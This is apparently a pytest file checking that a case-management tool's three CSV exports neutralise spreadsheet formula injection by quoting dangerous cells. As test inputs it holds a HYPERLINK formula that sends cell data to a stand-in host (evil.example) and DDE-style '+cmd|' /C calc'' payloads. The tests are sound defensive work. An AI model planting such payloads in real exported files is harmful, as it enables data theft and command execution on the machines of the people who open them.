"""CSV formula injection: no exported cell may start like a spreadsheet formula, and nothing else changes.

The dangerous cells get into the store the ways an attacker has: a sentence
of an article (here an uploaded source) added as a statement, and a
reviewer's edit; they come out through all three CSV exports: the CLI's,
the workbench page's and the API's. Tab and carriage return, which a
reviewer's edit may not contain, are checked on csv_safe itself.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from vigil.store.db import Store, open_store
from vigil.store.export import COLUMNS, FORMULA_STARTS, csv_safe, export
from vigil.store.records import record_capture
from vigil.store.tables import Case, CaseCapture, CaseMember
from vigil.web import queries
from vigil.web.app import create_app
from vigil.web.auth import add_user

PASSWORD = "correct horse battery"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open the report")'
ORDINARY = "Temperatures in the camp fell to -5 degrees at night, the ministry said."
ARTICLE = f"Camp conditions\n\n{FORMULA} was written on the placard.\n\n{ORDINARY}\n".encode()


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_dangerous_start_gets_a_quote(start: str) -> None:
    cell = f"{start}SUM(1,2)"
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "Michelle Bachelet",
        "fell to -5 degrees",
        "a=b+c",
        "user@example.org",
        " =1+1",  # a space first: not read as a formula
        "'already quoted",
        "2022-03-08",
        None,
        42,
        -3,
        1.5,
    ],
)
def test_ordinary_cells_are_untouched(cell: str | int | float | None) -> None:
    assert csv_safe(cell) == cell


def test_the_list_is_owasps() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def exported(tmp_path: Path) -> dict[str, list[dict[str, str]]]:
    """The three CSV exports of a case holding a formula sentence, a formula speaker and edited cells."""
    store = open_store(tmp_path, f"sqlite:///{tmp_path / 'vigil.db'}")
    cap = record_capture(store, ARTICLE, method="upload", uri="urn:upload:camp.txt").capture
    case_id = make_case(store, cap.id)
    c = TestClient(create_app(store), follow_redirects=False)
    assert c.post("/login", data={"name": "alice", "password": PASSWORD}).status_code == 303
    m = re.search(r'name="csrf" value="([^"]+)"', c.get("/").text)
    assert m
    csrf = m.group(1)
    with store.sessions() as s:
        doc = queries.current_document(s, cap.page_sha256)
        assert doc is not None
        text = doc.text
    for sentence, speaker, target, date in (
        (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1,2)", "--03-08"),
        (ORDINARY, "the ministry", "camp-3 detainees", "2022-03-08"),
    ):
        start = text.index(sentence)
        r = c.post(
            f"/cases/{case_id}/sources/{cap.id}/statements",
            data={
                "csrf": csrf,
                "start": str(start),
                "end": str(start + len(sentence)),
                "kind": "assert",
                "speaker": speaker,
                "target": target,
                "date": date,
            },
        )
        assert r.status_code == 303, r.text
    views = c.get(f"/api/cases/{case_id}/statements").json()
    added = {v["text"]: v["id"] for v in views if v["origin"] == "person"}
    assert set(added) == {FORMULA, ORDINARY}
    r = c.post(
        f"/api/cases/{case_id}/statements/{added[FORMULA]}/review",
        json={"action": "edited", "changes": {"speaker": "-2+3+cmd|' /C calc'!A0", "target": "@A1"}},
        headers={"X-CSRF-Token": csrf},
    )
    assert r.status_code == 200, r.text
    out = tmp_path / "cli.csv"
    export(store, "csv", out)
    return {
        "cli": rows(out.read_text(encoding="utf-8")),
        "page": rows(c.get(f"/cases/{case_id}/statements?format=csv").text),
        "api": rows(c.get(f"/api/cases/{case_id}/export?format=csv").text),
    }


def make_case(store: Store, capture_id: int) -> int:
    with store.sessions.begin() as s:
        uid = add_user(s, "alice", PASSWORD, "editor").id
        case = Case(name="Camp", description="", created_by=uid, created_at="2026-01-01T00:00:00Z")
        s.add(case)
        s.flush()
        s.add(CaseMember(case_id=case.id, user_id=uid, role="owner"))
        s.add(CaseCapture(case_id=case.id, capture_id=capture_id, added_by=uid, added_at="2026-01-01"))
        return case.id


def by_text(table: list[dict[str, str]], text: str) -> dict[str, str]:
    found = [r for r in table if r["sentence"].lstrip("'") == text]
    assert len(found) == 1, (text, [r["sentence"] for r in table])
    return found[0]


def test_all_three_exports_neutralise_formula_cells(exported: dict[str, list[dict[str, str]]]) -> None:
    for name, table in exported.items():
        bad = by_text(table, FORMULA)
        assert bad["sentence"] == "'" + FORMULA, name
        assert bad["date"] == "'--03-08", name  # a year-unknown date starts with "-" too
        # every export writes the reviewer's edit, and says it is one
        assert bad["speaker"] == "'-2+3+cmd|' /C calc'!A0" and bad["target"] == "'@A1", name
        assert bad["review_status"] == "edited" and bad["reviewer"] == "alice", name
        for r in table:
            for field, cell in r.items():
                assert not cell.startswith(FORMULA_STARTS), (name, field, cell)


def test_ordinary_cells_come_out_as_they_went_in(exported: dict[str, list[dict[str, str]]]) -> None:
    for name, table in exported.items():
        good = by_text(table, ORDINARY)
        assert good["sentence"] == ORDINARY, name  # "-5" inside the cell is left alone
        assert good["speaker"] == "the ministry" and good["target"] == "camp-3 detainees", name
        assert good["date"] == "2022-03-08", name
        assert good["statement"].isdigit() and len(good["sha256"]) == 64, name
        assert good["date_precision"] == "day" and good["review_status"] == "added", name
    assert len(exported["cli"]) >= 2 and len(exported["page"]) == len(exported["api"])


def test_the_browser_and_the_cli_write_the_same_columns(exported: dict[str, list[dict[str, str]]]) -> None:
    """One export shape: the CLI's CSV, the statements page's and the API's have one header."""
    headers = {name: list(table[0]) for name, table in exported.items()}
    assert headers["cli"] == headers["page"] == headers["api"] == list(COLUMNS)
    for name, table in exported.items():  # the same source, so the same URL, digest and capture time
        assert {(r["url"], r["sha256"], r["captured_at"]) for r in table} == {
            (table[0]["url"], table[0]["sha256"], table[0]["captured_at"])
        }, name
        assert table[0]["captured_at"] and table[0]["sha256"], name
